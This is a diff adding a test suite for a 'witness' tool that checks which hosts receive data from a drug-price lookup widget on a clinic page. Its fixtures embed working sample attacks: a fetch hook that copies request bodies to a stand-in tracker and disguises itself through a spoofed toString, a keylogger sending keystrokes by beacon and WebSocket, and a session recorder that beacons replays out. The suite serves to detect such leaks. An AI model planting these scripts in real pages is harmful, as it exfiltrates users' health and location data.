@@ -1,0 +1,288 @@
+/** The witness on pages whose scripts listen, each in its own way, against the real endpoint and sandbox. */
+import assert from 'node:assert/strict';
+import { cpSync, existsSync, readFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { before, describe, test } from 'node:test';
+import { startBrowser } from '../support/browser.ts';
+import { chromiumOptions } from '../support/chromium.ts';
+import { built, runCommand, startSandboxAndEndpoint } from '../support/command.ts';
+import { newFolder } from '../support/folder.ts';
+import { startSite } from '../support/site.ts';
+
+/** Milliseconds: a page that never answers is waited for 60 s. */
+const patience = 120_000;
+const folder = newFolder();
+const read = (path: string) => readFileSync(new URL(`../../${path}`, import.meta.url));
+const scripts: Record<string, Buffer> = {
+  '/embed.js': read('dist/embed.js'),
+  '/rrweb.js': read('node_modules/rrweb/dist/rrweb.js'),
+  '/posthog-recorder.js': read('node_modules/posthog-js/dist/posthog-recorder.js'),
+  '/posthog.js': read('node_modules/posthog-js/dist/module.full.no-external.js'),
+};
+
+/** Answers of PostHog's server: it wants sessions recorded, compressed. */
+const posthogAnswer = JSON.stringify({
+  sessionRecording: { endpoint: '/s/', recorderVersion: 'v2', sampleRate: null },
+  supportedCompression: ['gzip-js'],
+  autocapture_opt_out: false,
+  featureFlags: {},
+});
+
+interface Page {
+  /** In the head, before the script of the elements. */
+  head?: string;
+  /** In the body; by default a lookup. */
+  body?: string;
+  /** What brings the elements; by default a script of the clinic's own. */
+  script?: string;
+}
+
+let endpoint = '';
+/** Somebody else's server. */
+let tracker = '';
+let clinic = '';
+const pages = new Map<string, Page>();
+
+async function witness(name: string, page: Page, ...options: string[]) {
+  pages.set(`/${name}`, page);
+  const { executablePath } = await chromiumOptions();
+  const { LD_LIBRARY_PATH = '', HOME = '' } = process.env;
+  const args = ['witness', `${clinic}/${name}`, '--browser', executablePath, ...options];
+  return runCommand(args, { LD_LIBRARY_PATH, HOME }, built, patience);
+}
+
+const lookup = (attributes = '') =>
+  `<drug-price-lookup endpoint="${endpoint}" ${attributes}>Call 555-0100.</drug-price-lookup>`;
+const failed = (out: string) => out.split('\n').filter((line) => line.startsWith('fail'));
+
+before(async () => {
+  ({
+    endpoint: { url: endpoint },
+  } = await startSandboxAndEndpoint('*', built));
+  tracker = await startSite((request, response) => {
+    request.resume();
+    response.writeHead(200, { 'access-control-allow-origin': '*' }).end('{}');
+  });
+  clinic = await startSite((request, response) => {
+    const { url = '/' } = request;
+    const page = pages.get(url);
+    const script = scripts[url];
+    request.resume();
+    if (script) response.writeHead(200, { 'content-type': 'text/javascript' }).end(script);
+    else if (url.startsWith('/posthog/'))
+      response.writeHead(200, { 'content-type': 'application/json' }).end(posthogAnswer);
+    else if (page)
+      response.writeHead(200, { 'content-type': 'text/html' }).end(`<!doctype html>
+<html lang="en"><head><meta charset="utf-8"><title>A clinic</title><link rel="icon" href="data:,">
+${page.head ?? ''}${page.script ?? '<script src="/embed.js" defer></script>'}</head>
+<body><main><h1>A clinic</h1>${page.body ?? lookup()}</main></body></html>`);
+    else response.writeHead(404).end('not found');
+  });
+  // where Chromium comes with npm it is unpacked once
+  await (await startBrowser()).close();
+});
+
+describe('witness', { concurrency: 2 }, () => {
+  test('a clean page: only the endpoint got it, and the receipt says so', async () => {
+    const file = join(folder, 'clean.html');
+    const { status, out, err } = await witness('clean', {}, '--out', file);
+    assert.equal(err, '');
+    assert.equal(status, 0, out);
+    assert.match(out, /^A real lookup follows.*about ten calls/);
+    assert.match(out, /^ok {3}endpoint \S+: it got the medicine, the place and coupon codes, in \d+ calls$/m);
+    assert.match(out, /^ok {3}lookup: only the endpoint got it/m);
+    const receipt = JSON.parse(readFileSync(join(folder, 'clean.json'), 'utf8')) as Record<string, unknown>;
+    assert.deepEqual(receipt.findings, []);
+    assert.deepEqual(
+      Object.keys(receipt.hosts as object).toSorted(),
+      [clinic, endpoint].map((url) => new URL(url).host).toSorted(),
+    );
+    const page = await (await startBrowser()).newPage();
+    await page.setContent(readFileSync(file, 'utf8'));
+    await page.getByRole('heading', { level: 1, name: 'Who heard a lookup' }).waitFor();
+    await page.getByText('Only the signing endpoint got what was looked up.').waitFor();
+    await page.getByRole('rowheader', { name: new URL(endpoint).host }).waitFor();
+    await page.getByRole('heading', { name: 'What was not tried' }).waitFor();
+  });
+
+  test('rrweb and PostHog, which obey the marks, hear nothing', async () => {
+    const head = `<script src="/posthog-recorder.js" defer></script><script type="module">
+      import { record } from '/rrweb.js';
+      import posthog from '/posthog.js';
+      globalThis.recorded = [];
+      record({ emit: (event) => recorded.push(event), maskAllInputs: false });
+      posthog.init('phc_test', { api_host: location.origin + '/posthog', autocapture: true,
+        opt_out_useragent_filter: true, session_recording: { maskAllInputs: false } });
+    </script>`;
+    const { status, out } = await witness('recorders', { head });
+    assert.deepEqual(failed(out), []);
+    assert.equal(status, 0);
+    // the page, its four scripts, and what PostHog sends of the rest of it
+    const [, requests] = new RegExp(`${new URL(clinic).host} \\((\\d+)\\)`).exec(out) ?? [];
+    assert.ok(Number(requests) > 6, out);
+  });
+
+  test('a recorder that obeys no mark is heard through its compression', async () => {
+    const head = `<script type="module">
+      import { record } from '/rrweb.js';
+      const events = [];
+      record({ emit: (event) => events.push(event), maskAllInputs: false, blockClass: 'none' });
+      addEventListener('pagehide', async () => {
+        const stream = new Blob([JSON.stringify(events)]).stream().pipeThrough(new CompressionStream('gzip'));
+        navigator.sendBeacon('${tracker}/replay', await new Response(stream).blob());
+      });
+    </script>`;
+    const { status, out } = await witness('replay', { head });
+    assert.equal(status, 1, out);
+    assert.match(
+      out,
+      /^fail \S+: it has the medicine, the place, prices and coupon codes by POST \S+\/replay/m,
+    );
+  });
+
+  test('a fetch that copies to another host, a console and a data layer', async () => {
+    const file = join(folder, 'copied.html');
+    const head = `<script>
+      const real = fetch;
+      window.dataLayer = [{ event: 'start' }];
+      // it passes for the browser's own in every way: any other the element would pass by
+      const { toString } = Function.prototype;
+      const copying = {
+        async fetch(url, options) {
+          void real('${tracker}/copy', { method: 'POST', mode: 'no-cors', body: btoa(String(options?.body)) });
+          const answer = await real(url, options);
+          const text = await answer.clone().text();
+          if (String(url).endsWith('/compare')) dataLayer.push({ event: 'prices', ecommerce: { text } });
+          if (String(url).endsWith('/coupon')) console.log('coupon', JSON.parse(text));
+          return answer;
+        },
+        toString() {
+          return toString.call(this === copying.fetch ? real : this === copying.toString ? toString : this);
+        },
+      };
+      window.fetch = copying.fetch;
+      Function.prototype.toString = copying.toString;
+    </script>`;
+    const { status, out } = await witness(
+      'copied',
+      { head },
+      '--drug',
+      'metformin',
+      '--location',
+      '60614',
+      '--out',
+      file,
+    );
+    assert.equal(status, 1, out);
+    const { host } = new URL(tracker);
+    assert.match(
+      out,
+      new RegExp(
+        `^fail ${host}: it has the medicine, the place and coupon codes by POST .*sent by ${clinic}/copied`,
+        'm',
+      ),
+    );
+    assert.match(out, /^fail this page: it has .*the medicine.* in window\.dataLayer/m);
+    assert.match(out, /^fail this page: it has .*coupon codes in the console/m);
+    const receipt = readFileSync(file, 'utf8');
+    assert.ok(receipt.includes(host));
+    assert.match(receipt, /metformin, 60614|60614, metformin/);
+  });
+
+  test('a keylogger that sends each letter, or keeps them where scripts of the page reach them', async () => {
+    const head = `<script>
+      let typed = '';
+      const socket = new WebSocket('${tracker.replace('http', 'ws')}/keys');
+      document.addEventListener('keydown', ({ key }) => {
+        typed += key;
+        localStorage.typed = btoa(typed);
+        navigator.sendBeacon('${tracker}/key?k=' + encodeURIComponent(key));
+      }, true);
+    </script>`;
+    const { status, out } = await witness('keys', { head });
+    assert.equal(status, 1, out);
+    assert.match(out, /^fail \S+: it has the medicine and the place in pieces, such as letter by letter/m);
+    assert.match(out, /^fail this page: it has the medicine and the place in window\.typed/m);
+    assert.match(out, /^fail this page: it has the medicine and the place in localStorage typed/m);
+  });
+
+  test('closed roots are no hindrance', async () => {
+    const { status, out, err } = await witness('sealed', { body: lookup('sealed') });
+    assert.equal(status, 0, out + err);
+    assert.match(out, /^ok {3}endpoint \S+: it got the medicine, the place and coupon codes/m);
+  });
+
+  test('the endpoint that served the script is the one that may have it', async () => {
+    const page = {
+      script: `<script type="module" src="${endpoint}/elements.js"></script>`,
+      body: '<drug-price-lookup>Call 555-0100.</drug-price-lookup>',
+    };
+    const { status, out, err } = await witness('served', page);
+    assert.equal(status, 0, out + err);
+    assert.ok(out.includes(`endpoint ${endpoint}: it got the medicine, the place and coupon codes`), out);
+  });
+
+  test('prices without a coupon are no whole lookup', async () => {
+    // a store of a chain that takes cash alone
+    const body = lookup('no-search drug="atorvastatin" ncpdp="0504001"');
+    const { status, out, err } = await witness('cash', { body });
+    assert.equal(status, 2, out + err);
+    assert.match(out, /^ok {3}endpoint \S+: it got the medicine/m);
+    assert.match(out, /^fail lookup: it could not be completed: no price that is shown has a coupon/m);
+  });
+
+  test('a page about one medicine at one pharmacy has neither field', async () => {
+    const body = lookup('no-search drug="atorvastatin" ncpdp="0503243"');
+    const { status, out, err } = await witness('preset', { body });
+    assert.equal(status, 0, out + err);
+    assert.match(out, /^ok {3}endpoint \S+: it got the medicine/m);
+    assert.match(out, /^warn not tried: a place: the element has no field for it/m);
+    const named = await witness('preset', { body }, '--drug', 'metformin');
+    assert.deepEqual([named.status, /--drug has no field/.test(named.err)], [2, true], named.err);
+  });
+
+  test('without an element, a page or an endpoint that answers, it says which step failed', async () => {
+    const file = join(folder, 'none.html');
+    const none = await witness('none', { body: '<p>Nothing here.</p>' }, '--out', file);
+    assert.equal(none.status, 2, none.out);
+    assert.match(
+      none.err,
+      /^drug-price-lookup: the element could not be reached.*no <drug-price-lookup> starts/,
+    );
+    assert.ok(!existsSync(file));
+
+    const down = await witness('down', {
+      body: '<drug-price-lookup endpoint="http://127.0.0.1:9"></drug-price-lookup>',
+    });
+    assert.equal(down.status, 2, down.out);
+    assert.match(down.err, /^drug-price-lookup: the prices are not shown: \S/);
+
+    const { executablePath } = await chromiumOptions();
+    const { LD_LIBRARY_PATH = '', HOME = '' } = process.env;
+    const args = ['witness', `${clinic}/missing`, '--browser', executablePath];
+    const missing = await runCommand(args, { LD_LIBRARY_PATH, HOME }, built, patience);
+    assert.deepEqual(
+      [missing.status, missing.err],
+      [2, `drug-price-lookup: page ${clinic}/missing answers 404\n`],
+    );
+  });
+
+  test('without playwright-core, it says how to install it', async () => {
+    const alone = join(folder, 'alone');
+    cpSync(join(import.meta.dirname, '../../dist'), join(alone, 'dist'), { recursive: true });
+    cpSync(join(import.meta.dirname, '../../package.json'), join(alone, 'package.json'));
+    const program = { cli: join(alone, 'dist/cli.js') };
+    const { status, err } = await runCommand(['witness', clinic], {}, program, patience);
+    assert.deepEqual(
+      [status, err],
+      [2, 'drug-price-lookup: witness needs the package playwright-core: npm install playwright-core\n'],
+    );
+  });
+
+  test('a file that is no browser is named', async () => {
+    const args = ['witness', clinic, '--browser', built.cli];
+    const { status, err } = await runCommand(args, {}, built, patience);
+    assert.equal(status, 2);
+    assert.match(err, /^drug-price-lookup: --browser \S+cli\.js does not start: \S/);
+  });
+});
